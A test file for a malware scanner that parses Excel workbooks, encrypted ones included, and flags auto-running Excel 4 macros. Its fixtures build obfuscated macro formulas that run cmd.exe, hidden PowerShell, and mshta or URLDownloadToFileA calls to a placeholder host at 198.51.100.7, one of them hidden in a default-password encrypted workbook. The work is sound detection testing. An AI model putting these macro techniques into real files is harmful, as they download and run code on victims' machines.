import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { inflateSync } from 'node:zlib';
import { scanEnglish } from '@palisade/contract/scan-phrases';
import { describe, expect, test } from 'vitest';
import { z } from 'zod';
import { ole } from '#test/containers.ts';
import { examinedTexts } from '#test/examined.ts';
import { EICAR, zip } from '#test/files.ts';

const examined = (content: Buffer, password?: string) => examinedTexts(content, { name: 'book.xls', password, on_disk: true });
const macrosOf = (texts: readonly string[]) => texts.find((text) => text.startsWith('Excel 4 macro sheets'));

const u16 = (value: number) => Buffer.from([value & 0xff, value >> 8]);
const u32 = (value: number) => Buffer.from(Uint32Array.of(value).buffer);
const record = (type: number, ...pieces: Buffer[]) => {
  const body = Buffer.concat(pieces);
  return Buffer.concat([u16(type), u16(body.length), body]);
};
const counted = (text: string) => Buffer.concat([Buffer.from([text.length, 0]), Buffer.from(text, 'latin1')]);
const bof = (kind: number) => record(0x0809, u16(0x0600), u16(kind), Buffer.alloc(12));

// Tokens of formulas (MS-XLS 2.5.198).
const text = (value: string) => Buffer.concat([Buffer.from([0x17]), counted(value)]);
const int = (value: number) => Buffer.concat([Buffer.from([0x1e]), u16(value)]);
const concat = Buffer.from([0x08]);
const minus = Buffer.from([0x04]);
const char = Buffer.from([0x41, 111, 0]);
const call = (parts: number, number: number) => Buffer.concat([Buffer.from([0x42, parts]), u16(number)]);
const cell = (row: number, column: number) => Buffer.concat([Buffer.from([0x44]), u16(row), u16(column | 0xc000)]);
/** A text, spelled letter by letter. */
const spelled = (value: string) =>
  Buffer.concat(
    [...value].map((letter, index) =>
      Buffer.concat([int(letter.charCodeAt(0) + 7), int(7), minus, char, index === 0 ? Buffer.alloc(0) : concat]),
    ),
  );

const formula = (row: number, column: number, tokens: Buffer) =>
  record(0x0006, u16(row), u16(column), u16(15), Buffer.alloc(8), u16(0), u32(0), u16(tokens.length), tokens);
const label = (row: number, column: number, value: string) =>
  record(0x0204, u16(row), u16(column), u16(15), u16(value.length), Buffer.from([0]), Buffer.from(value));

/** A workbook with one macro sheet; `own_name` is run when it is opened. */
function macroBook(cells: readonly Buffer[], own_name: Buffer | undefined = Buffer.from([1])): Buffer {
  const pointer = Buffer.concat([Buffer.from([0x3a]), u16(0), u16(0), u16(0)]);
  const name =
    own_name === undefined
      ? Buffer.alloc(0)
      : record(
          0x0018,
          u16(0x21),
          Buffer.from([0, own_name.length]),
          u16(pointer.length),
          u16(0),
          u16(0),
          Buffer.alloc(4),
          Buffer.from([0]),
          own_name,
          pointer,
        );
  const sheet = record(0x0085, u32(0), Buffer.from([1, 1]), counted('Macro1'));
  const stream = Buffer.concat([bof(5), sheet, name, record(0x000a), bof(0x40), ...cells, record(0x000a)]);
  return ole([{ name: 'Workbook', content: Buffer.concat([stream], Math.max(5000, stream.length)) }]);
}

describe('a workbook of Excel 97 behind a password', () => {
  const files = z
    .record(z.string(), z.base64())
    .parse(JSON.parse(readFileSync(new URL('../../../test/locked-workbooks.json', import.meta.url), 'utf8')));
  const fileOf = (name: string) => inflateSync(Buffer.from(files[name] ?? '', 'base64'));
  const HIDDEN = 'the words that were put into the workbook';

  test.each(['xor', 'binaryRC4', 'cryptoAPI'])("is opened where it is Excel's own: %s", async (kind) => {
    const { unread, texts, coverage } = await examined(fileOf(`${kind}-VelvetSweatshop`));
    expect({ unread, encrypted: coverage.encrypted }).toEqual({ unread: [], encrypted: 0 });
    expect(texts.some((one) => one.includes(HIDDEN))).toBe(true);
  });

  test.each(['xor', 'binaryRC4', 'cryptoAPI'])(
    'is opened with the password that was given, and pending without it: %s',
    async (kind) => {
      const file = fileOf(`${kind}-secret`);
      expect(await examined(file)).toMatchObject({ unread: ['encrypted'], coverage: { encrypted: 1 } });
      expect((await examined(file, 'another')).unread).toEqual(['encrypted']);
      const { unread, texts } = await examined(file, 'secret');
      expect(unread).toEqual([]);
      expect(texts.some((one) => one.includes(HIDDEN))).toBe(true);
    },
  );

  test('of Excel 95 is opened as well', async () => {
    // MS-OFFCRYPTO 2.3.7 for VelvetSweatshop: key, verifier and the 16 bytes, as other programs compute them.
    const bytes = Buffer.from('876b9ae21ee305621e699660986e9404', 'hex');
    const plain = Buffer.from(HIDDEN);
    const start = Buffer.concat([record(0x0809, u16(0x0500), u16(5), Buffer.alloc(4)), record(0x002f, u16(0xb359), u16(0x9a0a))]);
    const body_at = start.length + 4;
    const locked = Buffer.from(
      plain.map((byte, index) => (((byte << 5) | (byte >> 3)) & 0xff) ^ (bytes[(body_at + plain.length + index) % 16] ?? 0)),
    );
    const stream = Buffer.concat([start, record(0x0204, locked), record(0x000a)]);
    const { unread, texts } = await examined(ole([{ name: 'Book', content: Buffer.concat([stream], 5000) }]));
    expect(unread).toEqual([]);
    expect(texts.some((one) => one.includes(HIDDEN))).toBe(true);
  });

  test('a header without a valid meaning stays pending', async () => {
    for (const body of [
      '',
      '00',
      '0100',
      '010001000100',
      '0100020002000000ffffffff',
      `01000200020000000000000020000000${'00'.repeat(80)}`,
    ]) {
      const stream = Buffer.concat([bof(5), record(0x002f, Buffer.from(body, 'hex')), record(0x000a)]);
      const file = ole([{ name: 'Workbook', content: Buffer.concat([stream], 5000) }]);
      expect((await examined(file)).unread, body).toEqual(['encrypted']);
    }
  });

  test('is found in spite of it when a macro sheet in it runs a program', async () => {
    // MS-OFFCRYPTO 2.3.6.2, once more: the verifier is of zeros.
    const md5 = (...pieces: Buffer[]) => createHash('md5').update(Buffer.concat(pieces)).digest();
    const salt = Buffer.alloc(16, 3);
    const short = md5(Buffer.from('VelvetSweatshop', 'utf16le')).subarray(0, 5);
    const base = md5(...Array.from({ length: 16 }, () => Buffer.concat([short, salt]))).subarray(0, 5);
    const streamOf = (block: number, count: number) => {
      const key = md5(base, u32(block));
      const s = Array.from({ length: 256 }, (_, index) => index);
      let j = 0;
      const swap = (one: number, other: number) => {
        const kept = s[one] ?? 0;
        s[one] = s[other] ?? 0;
        s[other] = kept;
      };
      for (let i = 0; i < 256; i += 1) {
        j = (j + (s[i] ?? 0) + (key[i % 16] ?? 0)) % 256;
        swap(i, j);
      }
      j = 0;
      return Buffer.from(
        Array.from({ length: count }, (_, index) => {
          const i = (index + 1) % 256;
          j = (j + (s[i] ?? 0)) % 256;
          swap(i, j);
          return s[((s[i] ?? 0) + (s[j] ?? 0)) % 256] ?? 0;
        }),
      );
    };
    const verifier = streamOf(0, 32);
    const hash = md5(Buffer.alloc(16)).map((byte, index) => byte ^ (verifier[16 + index] ?? 0));
    const pass = record(0x002f, u16(1), u16(1), u16(1), salt, verifier.subarray(0, 16), Buffer.from(hash));
    const pointer = Buffer.concat([Buffer.from([0x3a]), u16(0), u16(0), u16(0)]);
    const plain = Buffer.concat([
      bof(5),
      pass,
      record(0x0085, u32(0), Buffer.from([1, 1]), counted('Macro1')),
      record(
        0x0018,
        u16(0x21),
        Buffer.from([0, 1]),
        u16(pointer.length),
        u16(0),
        u16(0),
        Buffer.alloc(4),
        Buffer.from([0, 1]),
        pointer,
      ),
      record(0x000a),
      bof(0x40),
      ...Array.from({ length: 40 }, (_, row) => label(row, 5, `an ordinary text that fills the sheet ${row}`)),
      formula(50, 0, Buffer.concat([spelled('cmd.exe /c start calc'), call(1, 110)])),
      record(0x000a),
    ]);
    expect(plain.length).toBeGreaterThan(2048);
    const key_stream = Buffer.concat(Array.from({ length: Math.ceil(plain.length / 1024) }, (_, block) => streamOf(block, 1024)));
    const locked = Buffer.from(plain);
    for (let at = 0; at < plain.length; ) {
      const type = plain.readUInt16LE(at);
      const size = plain.readUInt16LE(at + 2);
      const from = [0x0809, 0x002f].includes(type) ? size : type === 0x0085 ? 4 : 0;
      for (let index = from; index < size; index += 1)
        locked[at + 4 + index] = (plain[at + 4 + index] ?? 0) ^ (key_stream[at + 4 + index] ?? 0);
      at += 4 + size;
    }
    const { threat, texts } = await examined(
      ole([{ name: 'Workbook', content: Buffer.concat([locked], Math.max(5000, locked.length)) }]),
    );
    expect(macrosOf(texts)).toContain('A51: =EXEC("cmd.exe /c start calc")');
    expect(threat).toBe('Macro.Excel4.AutoRun');
  });
});

describe('a macro sheet of Excel 4', () => {
  test('is a text in which spelled and joined texts are resolved', async () => {
    const tokens = Buffer.concat([spelled('powershell'), text(' -w hidden '), concat, cell(4, 2), concat, call(1, 110)]);
    const { texts, threat } = await examined(
      macroBook([label(4, 2, '-c calc'), formula(0, 0, tokens), formula(1, 0, Buffer.from([0x42, 0, 54, 0]))]),
    );
    expect(macrosOf(texts)?.split('\n')).toEqual([
      'Excel 4 macro sheets',
      'Auto_Open: =A1',
      '[Macro1]',
      'A1: =EXEC("powershell -w hidden -c calc")',
      'A2: =HALT()',
      '',
    ]);
    expect(threat).toBe('Macro.Excel4.AutoRun');
  });

  test('that downloads a program by a library of Windows is found', async () => {
    const tokens = Buffer.concat([
      spelled('urlmon'),
      text('URLDown'),
      text('loadToFileA'),
      concat,
      text('JJCCJJ'),
      int(0),
      text('http://198.51.100.7/a.exe'),
      text('c:\\a.exe'),
      int(0),
      int(0),
      call(8, 150),
    ]);
    expect((await examined(macroBook([formula(0, 0, tokens)]))).threat).toMatch(/^Macro\.Excel4\./);
  });

  test('that writes its formulas and runs them is found', async () => {
    const quote = Buffer.concat([int(34), char]);
    const tokens = Buffer.concat([
      spelled('=EXEC('),
      quote,
      concat,
      text('mshta http://198.51.100.7/a'),
      concat,
      quote,
      concat,
      text(')'),
      concat,
      cell(9, 9),
      call(2, 0x8060),
    ]);
    const { texts, threat } = await examined(macroBook([formula(0, 0, tokens)]));
    expect(macrosOf(texts)).toContain('A1 writes: =EXEC("mshta http://198.51.100.7/a")');
    expect(threat).toBe('Macro.Excel4.AutoRun');
  });

  test('a macro that only counts raises nothing, and one that is not started automatically is no threat', async () => {
    const sum = Buffer.concat([int(1), int(2), Buffer.from([0x03])]);
    expect((await examined(macroBook([formula(0, 0, sum)]))).threat).toBeNull();
    const tokens = Buffer.concat([text('calc.exe'), call(1, 110)]);
    expect((await examined(macroBook([formula(0, 0, tokens)], Buffer.from('Totals')))).threat).toBeNull();
  });

  test('a circle of cells ends', async () => {
    const cells = Array.from({ length: 200 }, (_, row) =>
      formula(row, 0, Buffer.concat([cell((row + 1) % 200, 0), text('x'), concat])),
    );
    expect((await examined(macroBook(cells))).unread).toEqual([]);
  });

  test('cells that double each other are bounded', async () => {
    const cells = Array.from({ length: 64 }, (_, row) =>
      formula(row + 1, 0, Buffer.concat([cell(row, 0), cell(row, 0), concat])),
    );
    const { texts, unread } = await examined(macroBook([label(0, 0, 'ab'), ...cells]));
    expect(unread).toEqual([]);
    expect(macrosOf(texts)?.length).toBeLessThan(4 * 1024 ** 2);
  });

  test('of tokens that end too early, or are none, gives what there is', async () => {
    for (const tokens of ['17ff', '1e', '41', '4201', '4400', '00', '18', '19', 'ff', '0808080808', '2142', '3a'])
      expect((await examined(macroBook([formula(0, 0, Buffer.from(tokens, 'hex'))]))).unread, tokens).toEqual([]);
  });

  test('in a package is read with the names of the workbook and the texts that its sheets share', async () => {
    const file = zip([
      {
        name: 'xl/workbook.xml',
        content: Buffer.from(
          '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>',
        ),
      },
      {
        name: 'xl/intl/one.xml',
        content: Buffer.from(
          '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC(CHAR(99)&amp;&quot;m&quot;&amp;C3&amp;B7)</f><v>0</v></c><c r="B7" t="s"><v>1</v></c><c r="C3" t="str"><f>MID("xxd.exe",3,20)</f></c></row></sheetData></xm:macrosheet>',
        ),
      },
      {
        name: 'xl/sharedStrings.xml',
        content: Buffer.from('<sst><si><t>zero</t></si><si><r><t> /c </t></r><r><t>calc</t></r></si></sst>'),
      },
    ]);
    const { texts, threat } = await examined(file);
    expect(macrosOf(texts)).toContain('A1: =EXEC("cmd.exe /c calc")');
    expect(threat).toBe('Macro.Excel4.AutoRun');
  });

  test('in records of a package is read as well', async () => {
    const part = (type: number, ...pieces: Buffer[]) => {
      const body = Buffer.concat(pieces);
      const head = type < 128 ? [type] : [(type & 0x7f) | 0x80, type >> 7];
      return Buffer.concat([
        Buffer.from(body.length < 128 ? [...head, body.length] : [...head, (body.length & 0x7f) | 0x80, body.length >> 7]),
        body,
      ]);
    };
    const wide = (value: string) => Buffer.concat([u32(value.length), Buffer.from(value, 'utf16le')]);
    const token_text = (value: string) => Buffer.concat([Buffer.from([0x17]), u16(value.length), Buffer.from(value, 'utf16le')]);
    const tokens = Buffer.concat([token_text('cmd'), token_text('.exe /c calc'), concat, call(1, 110)]);
    const sheet = Buffer.concat([
      part(129),
      part(0, u32(6), Buffer.alloc(13)),
      part(9, u32(1), u32(0), Buffer.alloc(8), u16(0), u32(tokens.length), tokens, u32(0)),
      part(130),
    ]);
    const name = part(39, u32(0x20), Buffer.from([0]), u32(0xffffffff), wide('_xlnm.Auto_Open'), u32(0), u32(0));
    const file = zip([
      { name: 'xl/workbook.bin', content: Buffer.concat([part(131), name, part(132)]) },
      { name: 'xl/macrosheets/sheet1.bin', content: sheet },
    ]);
    const { texts, threat } = await examined(file);
    expect(macrosOf(texts)).toContain('B7: =EXEC("cmd.exe /c calc")');
    expect(threat).toBe('Macro.Excel4.AutoRun');
  });

  test('of a package that is made to be slow takes no more than a few looks at each byte', async () => {
    const cells = '<c r="A1"><f>'.repeat(100_000);
    const file = zip([
      { name: 'xl/macrosheets/a.xml', content: Buffer.from(`<xm:macrosheet xmlns:xm="x">${cells}</xm:macrosheet>`) },
    ]);
    expect((await examined(file)).unread).toEqual([]);
  });
});

describe('a workbook that is too long for memory', () => {
  const MIB = 1024 ** 2;
  const RUNS = Buffer.concat([text('powershell -w hidden -c calc'), call(1, 110)]);
  const number = (row: number) => record(0x0203, u16(row), u16(0), u16(15), Buffer.alloc(8));
  /** A workbook whose stream is longer than 16 MiB, with a sheet of numbers before its macro sheet. */
  const longBook = (cells: Buffer) => {
    const filling = Buffer.alloc(17 * MIB - ((17 * MIB) % number(1).length), number(1));
    const sheet = record(0x0085, u32(0), Buffer.from([1, 1]), counted('Macro1'));
    const stream = [
      bof(5),
      sheet,
      AUTO_OPEN,
      record(0x000a),
      bof(0x10),
      filling,
      record(0x000a),
      bof(0x40),
      cells,
      record(0x000a),
    ];
    return ole([{ name: 'Workbook', content: Buffer.concat(stream) }], { sector_shift: 12 });
  };
  const AUTO_OPEN = record(
    0x0018,
    u16(0x21),
    Buffer.from([0, 1]),
    u16(7),
    u16(0),
    u16(0),
    Buffer.alloc(4),
    Buffer.from([0, 1]),
    Buffer.concat([Buffer.from([0x3a]), u16(0), u16(0), u16(0)]),
  );

  test('the macro sheet of a long workbook is read', async () => {
    const { threat, unread, texts } = await examined(longBook(formula(0, 0, RUNS)));
    expect(macrosOf(texts)).toContain('powershell -w hidden -c calc');
    expect({ threat, unread }).toMatchObject({ threat: 'Macro.Excel4.AutoRun', unread: [] });
  });

  test('a workbook with more macro cells than are kept is pending', async () => {
    const cells = Buffer.concat(Array.from({ length: 200_001 }, (_, row) => formula(row % 65_536, 1, int(1))));
    const { unread, notes } = await examined(macroBook([cells]));
    expect(unread).toEqual(['too_large']);
    expect(notes.map(({ phrase }) => scanEnglish(phrase))).toEqual([expect.stringContaining('macro sheets')]);
  });

  test('a workbook with very many macro sheets takes no memory for them, and is pending', async () => {
    const before = process.memoryUsage().rss;
    const begins = Buffer.alloc(15 * MIB - ((15 * MIB) % 20), bof(0x40));
    const { unread } = await examined(
      ole([{ name: 'Workbook', content: Buffer.concat([bof(5), begins, formula(0, 0, RUNS)]) }], { sector_shift: 12 }),
    );
    expect(unread).toContain('too_large');
    expect(process.memoryUsage().rss - before).toBeLessThan(300 * MIB);
  });

  test('a text of macro sheets that is longer than it may be is pending, and not cut without a word', async () => {
    const long = Buffer.concat(Array.from({ length: 12_000 }, (_, row) => formula(row, 1, text('a'.repeat(200)))));
    const { unread } = await examined(macroBook([long, formula(20_000, 1, RUNS)]));
    expect(unread).toEqual(['too_large']);
  });

  test('a file that the Packager put into a long stream is a file of its own', async () => {
    const line = Buffer.concat([u16(2), Buffer.from('a.txt\0C:\\a.txt\0'), u16(0), u16(3), u32(1), Buffer.from('\0')]);
    const content = Buffer.alloc(17 * MIB, 'words of nothing at all\n');
    content.write('Where it begins.');
    const native = Buffer.concat([u32(line.length + 4 + content.length), line, u32(content.length), content, Buffer.alloc(8)]);
    const { unread, texts } = await examined(ole([{ name: '\x01Ole10Native', content: native }], { sector_shift: 12 }));
    expect(unread).toEqual([]);
    expect(texts.some((one) => one.startsWith('Where it begins.'))).toBe(true);
  });
});

test("a cell's text is a file, among the shared texts and in the cell itself", async () => {
  const shared = (...texts: readonly string[]) =>
    record(
      0x00fc,
      u32(texts.length),
      u32(texts.length),
      ...texts.flatMap((text) => [u16(text.length), Buffer.from([0]), Buffer.from(text, 'latin1')]),
    );
  const test_file = EICAR.toString('latin1');
  const label = record(0x0204, u16(0), u16(0), u16(0), u16(test_file.length), Buffer.from([0]), EICAR);
  const filling = Buffer.alloc(5000);
  for (const records of [[shared('a', test_file, 'b')], [bof(0x0010), label]]) {
    const content = Buffer.concat([bof(0x0005), ...records, record(0x000a), filling]);
    expect(await examined(ole([{ name: 'Workbook', content }]))).toMatchObject({ threat: 'EICAR-Test-File' });
  }
});
